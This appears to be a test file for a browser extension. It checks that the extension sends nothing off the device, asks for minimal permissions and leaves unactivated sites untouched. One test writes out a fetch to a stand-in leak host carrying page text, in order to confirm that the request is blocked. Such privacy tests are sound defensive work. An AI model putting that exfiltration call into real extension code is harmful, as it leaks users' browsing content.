/** Nothing leaves the device, and nothing is read without permission. */
import { readHighlights } from '../../scripts/browser/page-highlights';
import { builtManifest } from './built-extension';
import { expect, test } from './fixtures';
import { falseClaim } from './sentences';

test('the recorder notices a request that the extension makes', async ({ startSession }) => {
  const { footnote, network } = await startSession();
  const outcome = await footnote.evaluateInExtension(
    (url) =>
      fetch(url).then(
        () => 'sent',
        () => 'failed',
      ),
    'https://leak.example/page?text=lupus',
  );
  expect(outcome).toBe('failed');
  expect(network.attempts).toEqual(['CONNECT leak.example:443']);
  network.forget();
});

test('no access to any site at install', async ({ engine }) => {
  const manifest = await builtManifest(engine);
  expect(manifest.manifest_version).toBe(3);
  expect([...manifest.permissions].sort()).toEqual([
    'activeTab',
    'alarms',
    'contextMenus',
    'scripting',
    'storage',
  ]);
  expect(manifest.host_permissions ?? []).toEqual([]);
  expect(manifest.content_scripts ?? []).toEqual([]);
  expect(manifest.web_accessible_resources ?? []).toEqual([]);
  expect(manifest.optional_host_permissions).toEqual(['*://*/*']);
});

test('the browser agrees that nothing was granted', async ({ startSession }) => {
  const { footnote } = await startSession();
  expect(await footnote.grantedOrigins()).toEqual([]);
});

test('a page on a site that is not switched on is left alone', async ({ session }) => {
  const url = session.servePage(`<p>${falseClaim}</p>`).replace('127.0.0.1', 'localhost');
  const { page, tabId } = await session.footnote.openPage(url);
  await expect(session.footnote.pageReport(tabId)).rejects.toThrow();
  expect(await readHighlights(page)).toEqual({});
});

test('the page’s own server sees only the reader’s visit', async ({ session }) => {
  const url = session.servePage(`<p>${falseClaim}</p>`);
  const before = session.server.requests.length;
  await session.openChecked(url);
  const asked = session.server.requests.slice(before).filter((path) => path !== '/favicon.ico');
  expect(asked).toEqual([new URL(url).pathname]);
});
